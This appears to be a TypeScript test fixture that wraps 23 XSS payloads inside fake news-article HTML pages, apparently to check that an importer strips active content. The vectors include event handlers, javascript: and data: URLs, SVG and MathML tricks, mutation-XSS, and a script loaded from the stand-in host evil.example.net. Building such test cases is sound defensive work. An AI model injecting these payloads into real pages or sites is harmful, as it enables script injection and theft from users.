import { articleParagraphs, HOSTILE_HEADLINE } from './article-text';
import { pwn, pwnParent, type HostileCase } from './hostile-case';

/**
 * Saved web pages with active content in every place HTML allows it. Each is a real article page (so the
 * importer reads it rather than refusing it as empty), with the payload in the middle of the article body.
 */

interface PageParts {
  head?: string;
  bodyAttrs?: string;
  payload: string;
}

function page(id: string, { head = '', bodyAttrs = '', payload }: PageParts): string {
  const [first, second, ...rest] = articleParagraphs(id).map((p) => `<p>${p}</p>`);
  return [
    '<!DOCTYPE html>',
    `<html lang="en"><head><meta charset="utf-8"><title>${HOSTILE_HEADLINE}</title>${head}</head>`,
    `<body${bodyAttrs ? ` ${bodyAttrs}` : ''}><article><h1>${HOSTILE_HEADLINE}</h1>`,
    first,
    second,
    payload,
    ...rest,
    '</article></body></html>',
  ].join('\n');
}

const htmlCase = (id: string, attacks: string, parts: PageParts): HostileCase => ({ id, name: `${id}.html`, content: page(id, parts), attacks });

// A data: URL holding a document whose script reaches back to the app.
const dataHtml = (id: string): string => `data:text/html,<script>${pwnParent(id)}</script>`;

export const HTML_CASES: readonly HostileCase[] = [
  htmlCase('html-script-inline', 'an inline <script> in the article body and the head', {
    head: `<script>${pwn('html-script-inline')}</script>`,
    payload: `<script>${pwn('html-script-inline')}</script><p>Witnesses described thick smoke.<script>${pwn('html-script-inline')}</script></p>`,
  }),
  htmlCase('html-script-src', 'a <script src> from a data: URL and from a remote host', {
    payload: `<script src="data:text/javascript,${pwn('html-script-src')}"></script><script src="https://evil.example.net/pwn.js"></script>`,
  }),
  htmlCase('html-img-onerror', 'an image whose onerror handler runs when its source fails', {
    payload: `<p>Photographs showed the damage.<img src="x" onerror="${pwn('html-img-onerror')}"></p>`,
  }),
  htmlCase('html-body-onload', 'onload on the body and on an image', {
    bodyAttrs: `onload="${pwn('html-body-onload')}"`,
    payload: `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${pwn('html-body-onload')}">`,
  }),
  htmlCase('html-onmouseover', 'a paragraph and a link that run code when hovered', {
    payload: `<p onmouseover="${pwn('html-onmouseover')}">Hover over this sentence for the full statement.</p><p><a href="https://example.org/" onmouseover="${pwn('html-onmouseover')}">The company statement</a> was short.</p>`,
  }),
  htmlCase('html-autofocus-onfocus', 'a focusable element with autofocus whose onfocus runs at once', {
    payload: `<input autofocus onfocus="${pwn('html-autofocus-onfocus')}"><p tabindex="0" autofocus onfocus="${pwn('html-autofocus-onfocus')}">Passengers were given vouchers.</p>`,
  }),
  htmlCase('html-href-javascript', 'javascript: links, plain and obfuscated with entities, case and whitespace', {
    payload: `<p><a href="javascript:${pwn('html-href-javascript')}">Read the operator's full statement</a> and <a href=" JaVaScRiPt&colon;${pwn('html-href-javascript')}">the coastguard log</a> and <a href="java&#x09;script:${pwn('html-href-javascript')}">the timetable</a>.</p>`,
  }),
  htmlCase('html-href-vbscript', 'a vbscript: link (old Internet Explorer)', {
    payload: `<p><a href="vbscript:msgbox(&quot;html-href-vbscript&quot;)">Download the timetable</a>.</p>`,
  }),
  htmlCase('html-href-data', 'a data:text/html link that opens a document running script', {
    payload: `<p><a href="${dataHtml('html-href-data')}">See the passenger list</a>.</p>`,
  }),
  htmlCase('html-form-action', 'a form and buttons whose action or formaction is javascript:', {
    payload: `<form action="javascript:${pwn('html-form-action')}"><input type="submit" value="Claim compensation"><button formaction="javascript:${pwn('html-form-action')}">Book again</button></form>`,
  }),
  htmlCase('html-iframe', 'iframes with srcdoc and javascript: sources reaching the parent', {
    payload: `<iframe srcdoc="<script>${pwnParent('html-iframe')}</script>"></iframe><iframe src="javascript:${pwnParent('html-iframe')}"></iframe><iframe src="${dataHtml('html-iframe')}"></iframe>`,
  }),
  htmlCase('html-object-embed', '<object>, <embed> and a stray <frame> loading active documents', {
    payload: `<object data="${dataHtml('html-object-embed')}"></object><embed src="${dataHtml('html-object-embed')}"><frame src="javascript:${pwnParent('html-object-embed')}">`,
  }),
  htmlCase('html-svg-onload', 'an inline SVG with onload and an animation that sets an event handler', {
    payload: `<svg onload="${pwn('html-svg-onload')}"><circle r="5"/><animate onbegin="${pwn('html-svg-onload')}" attributeName="x" dur="1s"/><set attributeName="onmouseover" to="${pwn('html-svg-onload')}"/></svg>`,
  }),
  htmlCase('html-svg-script', 'a <script> inside inline SVG, in SVG and XLink form', {
    payload: `<svg><script>${pwn('html-svg-script')}</script><script xlink:href="data:text/javascript,${pwn('html-svg-script')}"></script></svg>`,
  }),
  htmlCase('html-svg-use', 'an SVG <use> pulling a data: document with an event handler', {
    payload: `<svg><use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='${pwn('html-svg-use')}'/&gt;&lt;/svg&gt;#x"/></svg>`,
  }),
  htmlCase('html-svg-foreignobject', 'HTML smuggled into SVG through foreignObject', {
    payload: `<svg><foreignObject width="100" height="100"><img src="x" onerror="${pwn('html-svg-foreignobject')}"><iframe srcdoc="<script>${pwnParent('html-svg-foreignobject')}</script>"></iframe></foreignObject></svg>`,
  }),
  htmlCase('html-mathml', 'MathML maction and links with javascript: targets', {
    payload: `<math><maction actiontype="statusline" xlink:href="javascript:${pwn('html-mathml')}"><mtext>Click the formula</mtext><mtext>x</mtext></maction><mi href="javascript:${pwn('html-mathml')}">y</mi></math>`,
  }),
  htmlCase('html-css', 'CSS expression() and url(javascript:) in style attributes and a <style> block', {
    head: `<style>body { background: url("javascript:${pwn('html-css')}"); behavior: url(x.htc); } p { width: expression(${pwn('html-css')}); }</style>`,
    payload: `<p style="width: expression(${pwn('html-css')}); background-image: url(javascript:${pwn('html-css')})">The operator apologised to passengers.</p>`,
  }),
  htmlCase('html-meta-refresh', 'a meta refresh redirecting to javascript: and to a data: document', {
    head: `<meta http-equiv="refresh" content="0;url=javascript:${pwn('html-meta-refresh')}"><meta http-equiv="refresh" content="1;url=${dataHtml('html-meta-refresh')}">`,
    payload: '<p>The vessel is twelve years old.</p>',
  }),
  htmlCase('html-base-href', 'a <base href> turning every relative link into javascript:', {
    head: `<base href="javascript:${pwn('html-base-href')}//">`,
    payload: '<p><a href="statement.html">The statement</a> followed the <a href="/news">morning update</a>.</p>',
  }),
  htmlCase('html-mxss-noscript', 'mutation XSS: markup that turns live when a <noscript> is re-parsed with scripting on', {
    payload: `<noscript><p title="</noscript><img src=x onerror=${pwn('html-mxss-noscript')}>"></p></noscript>`,
  }),
  htmlCase('html-mxss-svg-style', 'mutation XSS: a <style> in SVG whose text becomes markup outside it', {
    payload: `<svg></p><style><a id="</style><img src=1 onerror=${pwn('html-mxss-svg-style')}>"></style></svg>`,
  }),
  htmlCase('html-template-slot', '<template> content and a declarative shadow root holding handlers', {
    payload: `<template><img src="x" onerror="${pwn('html-template-slot')}"></template><div><template shadowrootmode="open"><slot></slot><img src="x" onerror="${pwn('html-template-slot')}"></template><p>A spokeswoman declined to comment further.</p></div>`,
  }),
];
